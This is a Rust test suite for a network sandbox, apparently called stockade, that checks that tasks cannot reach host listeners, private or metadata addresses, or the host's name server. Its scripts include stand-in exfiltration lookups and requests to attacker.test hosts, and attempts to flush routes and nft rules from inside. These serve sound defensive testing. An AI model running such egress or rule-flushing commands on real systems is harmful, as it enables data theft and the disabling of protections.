//! The way out of a sandbox: there is none but by rule.

#![expect(clippy::unwrap_used, reason = "a step that fails fails its test")]

mod host;

use std::{
    collections::BTreeMap,
    fs,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket},
};

use crate::host::{Host, Outcome, eventually, finish, has, skip};

/// A host whose repository holds the scripts; nothing without perl.
fn host_with_scripts() -> Option<Host> {
    if !has("perl") {
        skip("everything here", "there is no perl to run the scripts");
        return None;
    }
    let host = Host::new();
    for (name, content) in [
        ("knock.pl", include_str!("scripts/knock.pl")),
        ("serve.pl", include_str!("scripts/serve.pl")),
    ] {
        fs::write(host.repository().join(name), content).unwrap();
    }
    host.git(&["add", "--all"]);
    host.git(&["commit", "--quiet", "--message", "Scripts"]);
    Some(host)
}

/// Listeners of the host at every address of both families.
struct Ears {
    tcp: Vec<TcpListener>,
    udp: Vec<UdpSocket>,
    /// What to knock at: kind, address and port.
    doors: Vec<[String; 3]>,
}

impl Ears {
    fn open(names: [&[&str]; 2]) -> Self {
        let mut ears = Self {
            tcp: Vec::new(),
            udp: Vec::new(),
            doors: Vec::new(),
        };
        let families = [
            IpAddr::from(Ipv4Addr::UNSPECIFIED),
            Ipv6Addr::UNSPECIFIED.into(),
        ];
        for (family, names) in families.into_iter().zip(names) {
            let (Ok(tcp), Ok(udp)) = (TcpListener::bind((family, 0)), UdpSocket::bind((family, 0)))
            else {
                skip(&family.to_string(), "the machine has no such addresses");
                continue;
            };
            tcp.set_nonblocking(true).unwrap();
            udp.set_nonblocking(true).unwrap();
            let ports = [("tcp", tcp.local_addr()), ("udp", udp.local_addr())];
            for (kind, address) in ports {
                let port = address.unwrap().port().to_string();
                ears.doors.extend(
                    names
                        .iter()
                        .map(|name| [kind.into(), (*name).to_owned(), port.clone()]),
                );
            }
            ears.tcp.push(tcp);
            ears.udp.push(udp);
        }
        ears
    }

    /// How often something was heard since the last time.
    fn heard(&self) -> usize {
        let connections = self
            .tcp
            .iter()
            .flat_map(|ear| std::iter::from_fn(|| ear.accept().ok().map(drop)));
        let datagrams = self
            .udp
            .iter()
            .flat_map(|ear| std::iter::from_fn(|| ear.recv(&mut [0; 64]).ok().map(drop)));
        connections.count() + datagrams.count()
    }
}

/// The addresses by which others reach this machine; no packet is sent.
fn own_addresses() -> Vec<String> {
    [
        (IpAddr::from(Ipv4Addr::UNSPECIFIED), "198.51.100.1"),
        (Ipv6Addr::UNSPECIFIED.into(), "2001:db8::1"),
    ]
    .into_iter()
    .filter_map(|(any, there)| {
        let socket = UdpSocket::bind((any, 0)).ok()?;
        socket.connect((there, 9)).ok()?;
        Some(socket.local_addr().ok()?.ip().to_string())
    })
    .collect()
}

#[test]
fn g2_a_listener_on_the_host_hears_nothing_by_any_address() {
    let Some(host) = host_with_scripts() else {
        return;
    };
    let own = own_addresses();
    let mut names = [
        vec![
            "127.0.0.1",
            "127.1",
            "2130706433",
            "0177.0.0.1",
            "0x7f.1",
            "0.0.0.0",
            "127.3.2.1",
        ],
        vec!["::1", "::"],
    ];
    for address in &own {
        names[usize::from(address.contains(':'))].push(address);
    }
    let ears = Ears::open([&names[0], &names[1]]);
    let words: Vec<&str> = ears.doors.iter().flatten().map(String::as_str).collect();

    // The same words from outside: every one is heard.
    let mut outside = host.other_command("perl");
    outside.args(["knock.pl", "0.2"]).args(&words);
    let outcome = finish(outside);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    let heard = ears.heard();
    assert_eq!(heard, ears.doors.len(), "{outcome:?}");

    // Inside, in addition, what only has a meaning there.
    let mut more: Vec<[&str; 3]> = Vec::new();
    for door in &ears.doors {
        for name in [
            "localhost",
            "stockade",
            "host.docker.internal",
            "192.0.2.1",
            "::ffff:127.0.0.1",
        ] {
            more.push([&door[0], name, &door[2]]);
        }
    }
    let mut inside = vec!["run", "--", "perl", "knock.pl", "3"];
    inside.extend(&words);
    inside.extend(more.iter().flatten());
    let outcome = host.stockade(&inside);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    let lines = outcome.stdout.lines().count();
    assert_eq!(lines, ears.doors.len() + more.len(), "{outcome:?}");
    assert!(!outcome.stdout.contains("no socket"), "{outcome:?}");
    assert_eq!(ears.heard(), 0, "{outcome:?}");
}

/// A network of its own, in which the host's name server is a script that
/// notes each question. `$1` is a folder for its files, the rest a command.
const WITH_NAME_SERVER: &str = r#"
perl -e 'exit 0' || exit 77
ip link set lo up && echo nameserver 127.0.0.1 > "$1/resolv.conf" && mount --bind "$1/resolv.conf" /etc/resolv.conf || exit 77
perl "$1/name-server.pl" "$1/questions" & server=$!
trap 'kill $server' EXIT
until grep -qs ready "$1/questions"; do kill -0 $server || exit 77; sleep 0.01; done
shift; "$@"
"#;

/// A host in a network of its own, whose name server is that script.
struct Watched(Host);

impl Watched {
    /// Nothing, and the reason said, where no such network can be made.
    fn start(what: &str) -> Option<Self> {
        let host = Host::new();
        let folder = host.path("names");
        fs::create_dir(&folder).unwrap();
        let server = include_str!("scripts/name-server.pl");
        fs::write(folder.join("name-server.pl"), server).unwrap();
        let watched = Self(host);
        // The host's own question is noted: the control.
        let control = watched.run(&["getent", "ahosts", "control.example"]);
        if watched.questions().contains("asked control.example.") {
            return Some(watched);
        }
        let reason = format!("no network of its own to watch: {}", control.stderr);
        skip(what, &reason);
        None
    }

    fn questions(&self) -> String {
        fs::read_to_string(self.0.path("names/questions")).unwrap_or_default()
    }

    /// Runs a command there.
    fn run(&self, command: &[&str]) -> Outcome {
        let mut unshare = self.0.other_command("unshare");
        if host::is_root() {
            unshare.args(["--net", "--mount"]);
        } else {
            unshare.args(["--user", "--map-root-user", "--net", "--mount"]);
        }
        unshare.args(["--", "sh", "-c", WITH_NAME_SERVER, "sh"]);
        unshare.arg(self.0.path("names"));
        if !host::is_root() {
            // Stockade shall take itself for what it is, an ordinary user's.
            unshare.args([
                "unshare",
                "--user",
                "--map-user=1000",
                "--map-group=1000",
                "--",
            ]);
        }
        unshare.args(command);
        finish(unshare)
    }

    /// Runs `script` as a task there, with further words for `run`; what it
    /// prints, and what the name server noted meanwhile.
    fn task(&self, words: &[&str], script: &str) -> (Outcome, String) {
        let before = self.questions();
        let stockade = env!("CARGO_BIN_EXE_stockade");
        let run = [&[stockade, "run"], words, &["--", "bash", "-c", script]].concat();
        let outcome = self.run(&run);
        assert_eq!(outcome.code, 0, "{outcome:?}");
        let after = self.questions();
        let meanwhile = after.trim_start_matches(before.as_str()).to_owned();
        (outcome, meanwhile)
    }
}

#[test]
fn g2_names_are_answered_inside_and_the_hosts_name_server_is_asked_nothing() {
    let Some(watched) = Watched::start("what the host's name server is asked") else {
        return;
    };
    let script = "for n in anything.example another.example c2hhZG93.attacker.test; do getent ahostsv4 $n | head -1; done; \
        curl -s --max-time 10 -o /dev/null -w '%{http_code}\\n' https://secret.attacker.test/ || echo 403; \
        perl -MSocket -e '$_ = gethostbyname(\"perl.attacker.test\") and print inet_ntoa($_), \"\\n\"'";
    let (outcome, asked) = watched.task(&[], script);
    assert_eq!(asked, "ready\n", "the host's name server was asked");

    let lines: Vec<&str> = outcome.stdout.lines().collect();
    assert_eq!(lines.len(), 5, "{outcome:?}");
    assert_eq!(lines[3], "403", "{outcome:?}");
    let mut answers: Vec<&str> = [0, 1, 2, 4]
        .into_iter()
        .filter_map(|line| lines[line].split_whitespace().next())
        .filter(|address| address.starts_with("198.18.") || address.starts_with("198.19."))
        .collect();
    answers.sort_unstable();
    answers.dedup();
    assert_eq!(answers.len(), 4, "one address for each name: {outcome:?}");
}

#[test]
fn g2_allowed_names_that_lead_inwards_by_an_alias_among_others_or_later_are_not_followed() {
    if !has("curl") {
        return skip("names that lead inwards", "curl is not installed");
    }
    let Some(watched) = Watched::start("names that lead inwards") else {
        return;
    };
    let words = ["--allow", "*.example", "--yes"];
    let script = "for n in alias mixed turning turning; do \
        curl -s --max-time 50 -D - -o /dev/null https://$n.example/ | grep -iE '^(HTTP|x-stockade-reason)' | tr -d '\\r' | tr '\\n' ' '; \
        echo $n; done";
    let (outcome, noted) = watched.task(&words, script);
    let lines: Vec<&str> = outcome.stdout.lines().collect();
    let unreachable = "x-stockade-reason: upstream";
    for (line, expected) in lines.iter().zip([
        "x-stockade-reason: network.private-address alias",
        // The public one was dialled, which no way leads to here.
        &format!("{unreachable} mixed"),
        &format!("{unreachable} turning"),
        "x-stockade-reason: network.private-address turning",
    ]) {
        assert!(line.ends_with(expected), "{expected}: {outcome:?}");
    }
    assert_eq!(lines.len(), 4, "{outcome:?}");
    assert!(noted.contains("asked mixed.example."), "{noted}");
    assert!(!noted.contains("knocked"), "{noted}");
}

#[test]
fn g2_addresses_are_refused_whatever_is_spoken() {
    let Some(host) = host_with_scripts() else {
        return;
    };
    let addresses = [
        "1.1.1.1",
        "93.184.216.34",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "169.254.169.254",
        "100.64.0.1",
        "224.0.0.1",
        "198.18.77.77",
        "2606:4700::1111",
        "fd00:ec2::254",
    ];
    let mut words = vec!["run", "--", "perl", "knock.pl", "3"];
    for address in addresses {
        for port in ["80", "22", "8443"] {
            words.extend(["tcp", address, port]);
        }
    }
    let outcome = host.stockade(&words);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    let answers: Vec<&str> = outcome.stdout.lines().collect();
    assert_eq!(answers.len(), 3 * addresses.len(), "{outcome:?}");
    for answer in answers {
        let refused = answer.contains("answered HTTP/1.1 403")
            || answer.contains("unreachable")
            || answer.contains("refused")
            || answer.contains("Invalid argument");
        assert!(refused, "{answer}");
    }
    let rules: Vec<String> = host
        .only_task()
        .denied()
        .into_iter()
        .map(|(_, _, rule)| rule)
        .collect();
    assert!(rules.len() >= 3 * 9, "{rules:?}");
    assert!(
        rules.iter().all(|rule| rule == "network.address-literal"),
        "{rules:?}"
    );
}

#[test]
fn g2_the_capture_port_itself_leads_nowhere_and_cannot_be_taken() {
    let Some(host) = host_with_scripts() else {
        return;
    };
    let task = host.start("sleep 1000");
    let (code, printed) = host.exec(
        &task,
        "perl knock.pl 3 tcp 127.0.0.1 15001 tcp ::1 15001 tcp localhost 15001 tcp 0.0.0.0 15001; \
         perl -MSocket -e 'for my $port (15001, 53) { for my $host (\"127.0.0.1\", \"0.0.0.0\") { socket(S, PF_INET, SOCK_STREAM, 0) or die; \
           setsockopt(S, SOL_SOCKET, $_, 1) for SO_REUSEADDR, 15; print \"TOOK $host $port\\n\" if bind(S, sockaddr_in($port, inet_aton($host))) and listen(S, 1) } }'",
    );
    assert_eq!(code, 0, "{printed}");
    assert_eq!(printed.lines().count(), 4, "{printed}");
    for line in printed.lines() {
        let nothing =
            line.contains(": closed") || line.contains("reset") || line.contains("refused");
        assert!(nothing, "{line}");
    }
    // It did no harm: the gateway is there, and nothing was passed on in a circle.
    let (_, printed) = host.exec(&task, "perl knock.pl 3 tcp still.example 80");
    assert!(printed.contains("answered HTTP/1.1 4"), "{printed}");
    let seen = task.denied();
    assert_eq!(seen.len(), 1, "{seen:?}");
}

#[test]
fn datagrams_to_anywhere_are_refused_at_once() {
    let Some(host) = host_with_scripts() else {
        return;
    };
    let outcome = host.stockade(&[
        "run",
        "--",
        "perl",
        "knock.pl",
        "3",
        "udp",
        "9.9.9.9",
        "443",
        "udp",
        "8.8.8.8",
        "53",
        "udp",
        "127.0.0.1",
        "9",
        "udp",
        "10.1.2.3",
        "123",
        "udp",
        "2001:4860:4860::8888",
        "53",
        "udp",
        "quic.example",
        "443",
        "udp",
        "192.0.2.1",
        "53",
    ]);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert_eq!(outcome.stdout.lines().count(), 7, "{outcome:?}");
    for line in outcome.stdout.lines() {
        assert!(line.contains(": Connection refused (0."), "{line}");
    }
}

#[test]
fn servers_inside_reach_each_other_and_two_tasks_use_the_same_port() {
    let Some(host) = host_with_scripts() else {
        return;
    };
    let words = ["first", "second"];
    let tasks = words.map(|word| host.start(&format!("exec perl serve.pl 3000 {word}")));
    let mut answers: BTreeMap<&str, String> = BTreeMap::new();
    for (task, word) in tasks.iter().zip(words) {
        let ask = "for h in localhost 127.0.0.1 stockade 0.0.0.0; do \
            perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"$ARGV[0]:3000\", Timeout => 5) or exit 1; \
            print $s \"GET / HTTP/1.0\\r\\n\\r\\n\"; local $/; $_ = <$s>; print /\\r\\n\\r\\n(.*)/s, \" \"' $h || exit 1; done";
        eventually(&format!("{word} serves"), || {
            let (code, printed) = host.exec(task, ask);
            answers.insert(word, printed);
            code == 0
        });
        assert_eq!(answers[word], format!("{word} {word} {word} {word} "));
    }
}

#[test]
fn routes_and_rules_cannot_be_changed_inside() {
    if !has("ip") && !has("nft") {
        return skip(
            "changing routes and rules",
            "neither ip nor nft is installed",
        );
    }
    let host = Host::new();
    let printed = host.look(
        "ip link set lo down 2>/dev/null && echo DOWN; ip route flush table all 2>/dev/null && echo FLUSHED; \
         ip link add x type dummy 2>/dev/null && echo ADDED; ip route add 203.0.113.0/24 dev lo 2>/dev/null && echo ROUTED; \
         ip address add 203.0.113.1/32 dev lo 2>/dev/null && echo ADDRESSED; ip rule add from all lookup 7 2>/dev/null && echo RULED; \
         nft flush ruleset 2>/dev/null && echo FLUSHED; nft list ruleset 2>/dev/null && echo LISTED; echo tried; \
         getent ahostsv4 still.example >/dev/null && echo works",
    );
    assert_eq!(printed, "tried\nworks\n");
}
